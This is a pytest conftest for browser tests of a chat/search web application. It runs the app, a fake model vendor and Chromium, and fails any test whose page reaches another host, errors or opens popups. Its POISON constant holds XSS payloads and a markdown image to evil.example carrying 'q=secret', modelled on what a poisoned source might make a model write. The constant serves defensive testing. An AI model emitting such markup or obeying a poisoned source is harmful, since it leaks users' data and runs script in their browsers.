"""The page in a real browser: the application on a loopback port, a worker beside it, Chromium in front of it.

Every test also proves that no script failed, no dialog opened, nothing broke the content policy and no request left the host.
"""

import asyncio
import shutil
from collections.abc import AsyncGenerator, Sequence
from contextlib import AsyncExitStack, asynccontextmanager, nullcontext
from dataclasses import dataclass, replace

import httpx
import pytest
from fastapi import FastAPI
from playwright.async_api import Browser, ConsoleMessage, Page, async_playwright, expect
from pydantic import SecretStr

from api.deps import COOKIE
from api.main import create_app
from api.serve import Server, listen
from app.chat_models import open_chat_models
from app.resources import Resources, open_resources
from tests.browser.person import Person
from tests.llm.vendor_server import Reply, Vendor, vendor_server
from tests.make import make_scope
from workers.drain import Terms
from workers.main import RETRY, working

CHROMIUM = next(
    filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None
)
PATIENCE_MS = 60_000  # with what a busy machine may need for anything
# Slow enough to be stopped or left in the middle, and at its end what a poisoned source may make a model write.
POISON = (
    "\n\n![x](https://evil.example/x.png?q=secret) [press](javascript:alert(1)) ",
    "[here](https://evil.example/a) <img src=x onerror=alert(1)> <script>alert(1)</script>",
)
REPLY = Reply(words=(*(f"word{n} " for n in range(30)), *POISON), pause_s=0.1)


def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
    """Without a browser, name each test that is not run."""
    if CHROMIUM is not None:
        return
    for item in items:
        if "tests/browser/" in item.nodeid:
            reason = f"no Chromium on this machine, so not run: {item.name} (`make browser`)"
            item.add_marker(pytest.mark.skip(reason=reason))


@pytest.fixture(scope="session")
async def browser() -> AsyncGenerator[Browser]:
    expect.set_options(timeout=PATIENCE_MS)
    async with async_playwright() as playwright:
        # Without its own sandbox, which needs rights that containers do not give; it opens our page only.
        args = ["--no-sandbox", "--disable-dev-shm-usage"]
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=args)
        yield browser
        await browser.close()


@pytest.fixture(scope="session")
async def vendor() -> AsyncGenerator[Vendor]:
    async with vendor_server(REPLY) as vendor:
        yield vendor


class LongestFirst:
    """A reranker whose order cannot be mistaken for another's."""

    async def score(self, query: str, passages: Sequence[str]) -> list[float]:
        return [float(len(passage)) for passage in passages]


@dataclass(frozen=True, slots=True)
class Site:
    """The running application, and what its worker uses."""

    url: str
    app: FastAPI
    worker: Resources


@pytest.fixture(scope="session")
async def site(opened: Resources, settings, vendor: Vendor) -> AsyncGenerator[Site]:
    vendors = settings.model_copy(
        update={
            "openai_base_url": vendor.base_url,
            "openai_api_key": SecretStr("none"),
            "chat_model": "extractive",
        }
    )
    async with AsyncExitStack() as stack:
        chat = await stack.enter_async_context(open_chat_models(vendors))
        worker = await stack.enter_async_context(open_resources(vendors, purpose="worker"))
        app = create_app(nullcontext(replace(opened, chat=chat, reranker=LongestFirst())))
        listening = listen("127.0.0.1", 0)
        server = Server(app, trusted_proxies="127.0.0.1")
        serving = asyncio.create_task(server.serve(sockets=[listening]))
        url = f"http://127.0.0.1:{listening.getsockname()[1]}"
        async with httpx.AsyncClient() as client:
            await client.get(f"{url}/healthz")  # answered once the application has started
        yield Site(url, app, worker)
        server.should_exit = True
        await serving


@pytest.fixture
async def visitor(resources: Resources, site: Site, browser: Browser) -> AsyncGenerator[Person]:
    """Somebody who has not signed in."""
    async with working(site.worker, Terms(RETRY)), watched(site, browser) as page:
        await page.goto(site.url)
        yield Person(page, site.url)


@pytest.fixture
async def ada(
    resources: Resources, site: Site, browser: Browser, owner_connection
) -> AsyncGenerator[Person]:
    """Ada, signed in, with nothing of hers there yet."""
    scope = await make_scope(owner_connection, "Ada")
    new = await site.app.state.api.sessions.start(scope.account_id, kind="cookie")
    async with working(site.worker, Terms(RETRY)), watched(site, browser) as page:
        cookie = {"name": COOKIE, "value": new.token, "url": site.url, "httpOnly": True}
        await page.context.add_cookies([cookie])  # pyright: ignore[reportArgumentType]
        async with page.expect_response(f"{site.url}/api/v1/events"):  # from now on alerts come
            await page.goto(site.url)
        await page.wait_for_selector("#search-input")
        yield Person(page, site.url)


@asynccontextmanager
async def watched(site: Site, browser: Browser) -> AsyncGenerator[Page]:
    """Lend a page; whatever it did that it must never do fails the test."""
    forbidden: list[str] = []
    context = await browser.new_context(viewport={"width": 1280, "height": 800})
    page = await context.new_page()
    page.set_default_timeout(PATIENCE_MS)
    page.on("request", lambda r: None if r.url.startswith(site.url) else forbidden.append(r.url))
    page.on("pageerror", lambda error: forbidden.append(str(error)))
    page.on("console", lambda message: forbidden.extend(_complaint(message)))
    page.on("popup", lambda popup: forbidden.append(f"popup {popup.url}"))
    try:
        yield page
    finally:
        await context.close()
    assert forbidden == []


def _complaint(message: ConsoleMessage) -> list[str]:
    """Return what the console said, if it is an error; refusals by the API are answers, not errors."""
    if message.type != "error" or "Failed to load resource" in message.text:
        return []
    return [message.text]
